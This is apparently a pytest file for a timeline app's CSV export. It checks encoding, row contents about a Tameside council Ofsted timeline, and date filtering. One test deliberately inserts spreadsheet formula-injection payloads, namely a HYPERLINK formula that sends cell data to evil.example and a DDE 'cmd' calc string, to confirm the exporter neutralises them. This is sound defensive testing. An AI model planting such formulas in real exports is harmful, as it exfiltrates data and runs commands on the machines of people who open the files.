"""CSV export: two files a spreadsheet opens cleanly, and the csv module reads back exactly."""

from __future__ import annotations

import csv

from export_sample import sample_timeline

from desktop.formats.export import ExportOptions, export_timeline, select_events
from desktop.formats.csv_tables import EVENT_COLUMNS, QUOTE_COLUMNS, write_csv
from desktop.core.dates import PartialDate


class _Doc:
    def __init__(self, timeline):
        self.timeline = timeline


def _read(path):
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def test_events_and_quotes_round_trip_through_the_csv_module(tmp_path):
    t = sample_timeline()
    events_path, quotes_path = write_csv(t, tmp_path / "tameside.csv")
    assert quotes_path.name == "tameside-quotes.csv"
    raw = events_path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads it as UTF-8
    assert b"\r\n" in raw  # Excel dialect rows
    rows = _read(events_path)
    assert list(rows[0]) == list(EVENT_COLUMNS)
    assert [r["id"] for r in rows] == [e.id for e in t.events_in_order()]
    first, visit, plan, statement = rows
    assert first["date"] == "2016" and first["precision"] == "year only" and first["rating"] == "inadequate"
    assert visit["summary"] == "A monitoring visit, the fourth.\nProgress \u201ctoo slow\u201d."
    assert visit["quotes"] == "2"
    assert plan["date"] == "2018-03" and plan["approx"] == "yes" and plan["end"] == "2020-12"
    assert statement["people"] == "Ged Cooney"
    assert first["source_citations"].startswith("Tameside Reporter, 'Ofsted warns progress too slow', Nigel Pivaro")
    quotes = _read(quotes_path)
    assert list(quotes[0]) == list(QUOTE_COLUMNS)
    texts = [(q["event_id"], q["speaker"], q["text"]) for q in quotes]
    assert texts == [
        ("ofsted-2016-inadequate", "Ofsted", "Widespread and serious failures"),
        ("monitoring-2017-10", "Ofsted", "Progress has been too slow"),
        ("monitoring-2017-10", "Alison Gwynne", "We accept the findings, \u201cin full\u201d"),
        ("leader-statement-2022", "Ged Cooney", "That report is devastating, we\u2019ve got to accept that"),
    ]
    assert quotes[3]["role"] == "Council leader"
    assert quotes[3]["source_citation"] == "Tameside Correspondent, 'Council leader on the report', Jun 2022."


def test_date_range_and_filter_choose_the_rows(tmp_path):
    t = sample_timeline()
    options = ExportOptions("csv", date_from=PartialDate(2017), date_to=PartialDate(2019))
    # the plan (Mar 2018 to Dec 2020) overlaps; 2016 and 2022 do not
    assert [e.id for e in select_events(t, options)] == ["monitoring-2017-10", "improvement-plan"]
    options.event_ids = frozenset({"improvement-plan", "leader-statement-2022"})
    written = export_timeline(_Doc(t), tmp_path / "out.csv", options)
    assert [r["id"] for r in _read(written[0])] == ["improvement-plan"]
    assert _read(written[1]) == []  # the plan has no quotes: a header-only quotes file


def test_cells_that_would_run_as_formulas_are_neutralised(tmp_path):
    """An imported file's text must not become a live formula when a colleague opens the CSV."""
    t = sample_timeline()
    event = t.events_in_order()[0]
    event.title = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    event.summary = "+1 means the same"
    event.quotes[0].text = "@SUM(1+1)*cmd|' /C calc'!A0"
    event.note = "-minus first"
    events_path, quotes_path = write_csv(t, tmp_path / "t.csv")
    row = next(r for r in _read(events_path) if r["id"] == event.id)
    assert row["title"] == "'" + event.title
    assert row["summary"] == "'+1 means the same"
    assert row["note"] == "'-minus first"
    quote = next(q for q in _read(quotes_path) if q["event_id"] == event.id)
    assert quote["text"] == "'" + event.quotes[0].text
    # ordinary text is untouched
    assert next(r for r in _read(events_path) if r["id"] != event.id)["title"][0] != "'"
